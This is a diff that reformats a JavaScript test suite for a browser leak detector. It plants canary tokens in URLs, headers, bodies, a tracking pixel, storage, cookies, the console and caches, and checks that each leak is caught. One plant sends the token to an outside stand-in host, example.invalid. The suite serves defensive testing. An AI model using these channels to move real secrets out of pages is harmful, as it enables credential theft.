@@ -40,36 +40,74 @@ async function onPlant(body) {
 }
 
 /** A secret of this number, none like another. */
-const secret = (number) => `eyJhbGciOiJSUzI1NiJ9.canary-${number}-${'must-never-leave-this-page-'.repeat(2)}${number}.c2lnbmF0dXJl`;
+const secret = (number) =>
+  `eyJhbGciOiJSUzI1NiJ9.canary-${number}-${'must-never-leave-this-page-'.repeat(2)}${number}.c2lnbmF0dXJl`;
 
 const plants = [
   ['address of GET /x', (secret) => fetch(`/x?token=${secret}`)],
   ['address of GET /x', (secret) => fetch(`/x?token=${encodeURIComponent(btoa(`Bearer ${secret}`))}`)],
   ['headers of GET /x', (secret) => fetch('/x', { headers: { authorization: `Bearer ${secret}` } })],
-  ['body of POST /x', (secret) => fetch('/x', { method: 'POST', body: JSON.stringify({ token: secret.slice(20, 70) }) })],
+  [
+    'body of POST /x',
+    (secret) => fetch('/x', { method: 'POST', body: JSON.stringify({ token: secret.slice(20, 70) }) }),
+  ],
   ['body of POST /x', (secret) => fetch('/x', { method: 'POST', body: new Blob([secret]) })],
-  ['address of GET /pixel', (secret) => new Promise((done) => {
-    const image = new Image();
-    image.onload = image.onerror = done;
-    image.src = `/pixel?${secret}`;
-  })],
+  [
+    'address of GET /pixel',
+    (secret) =>
+      new Promise((done) => {
+        const image = new Image();
+        image.onload = image.onerror = done;
+        image.src = `/pixel?${secret}`;
+      }),
+  ],
   ['address of GET /out', (secret) => fetch(`http://example.invalid/out?${secret}`).catch(() => {})],
   ['address bar', (secret) => history.replaceState(null, '', `#${secret}`)],
   ['history state', (secret) => history.replaceState({ secret }, '', '')],
-  ['tab title', (secret) => { document.title = secret; }],
-  ['window name', (secret) => { window.name = secret; }],
+  [
+    'tab title',
+    (secret) => {
+      document.title = secret;
+    },
+  ],
+  [
+    'window name',
+    (secret) => {
+      window.name = secret;
+    },
+  ],
   ['local storage', (secret) => localStorage.setItem('last', secret)],
   ['session storage', (secret) => sessionStorage.setItem(secret, '')],
-  ['cookies', (secret) => { document.cookie = `t=${secret}`; }],
+  [
+    'cookies',
+    (secret) => {
+      document.cookie = `t=${secret}`;
+    },
+  ],
   ['console', (secret) => console.debug('pasted', secret)],
-  ['console', (secret) => { setTimeout(() => { throw new Error(secret); }); return new Promise((done) => setTimeout(done)); }],
+  [
+    'console',
+    (secret) => {
+      setTimeout(() => {
+        throw new Error(secret);
+      });
+      return new Promise((done) => setTimeout(done));
+    },
+  ],
   ['caches', async (secret) => (await caches.open('c')).put(`/cached?${secret}`, new Response(''))],
-  ['indexed databases', (secret) => new Promise((resolve, reject) => {
-    const open = indexedDB.open('d', 1);
-    open.onupgradeneeded = () => open.result.createObjectStore('s').put({ secret }, 1);
-    open.onsuccess = () => { open.result.close(); resolve(); };
-    open.onerror = () => reject(open.error);
-  })],
+  [
+    'indexed databases',
+    (secret) =>
+      new Promise((resolve, reject) => {
+        const open = indexedDB.open('d', 1);
+        open.onupgradeneeded = () => open.result.createObjectStore('s').put({ secret }, 1);
+        open.onsuccess = () => {
+          open.result.close();
+          resolve();
+        };
+        open.onerror = () => reject(open.error);
+      }),
+  ],
 ];
 
 test('a planted secret is found, wherever it is', () =>
@@ -77,7 +115,10 @@ test('a planted secret is found, wherever it is', () =>
     for (const [number, [place, plant]] of plants.entries()) {
       await page.evaluate(plant, secret(number));
       const leaks = await watched.leaks(page, secret(number));
-      assert.ok(leaks.includes(place), `${plant}\nleaves something in: ${place}\nfound: ${leaks.join(', ') || 'nothing'}`);
+      assert.ok(
+        leaks.includes(place),
+        `${plant}\nleaves something in: ${place}\nfound: ${leaks.join(', ') || 'nothing'}`,
+      );
     }
   }));
 
@@ -95,7 +136,9 @@ test('what was not planted is not found', () =>
 
 test('a broken content security policy is seen', () =>
   onPlant(async ({ page, watched }) => {
-    await page.evaluate(() => document.body.append(Object.assign(document.createElement('style'), { textContent: 'h1 { color: red }' })));
+    await page.evaluate(() =>
+      document.body.append(Object.assign(document.createElement('style'), { textContent: 'h1 { color: red }' })),
+    );
     await until(() => assert.equal(watched.violations().length, 1));
     assert.match(watched.violations()[0], /^style-src/);
   }));
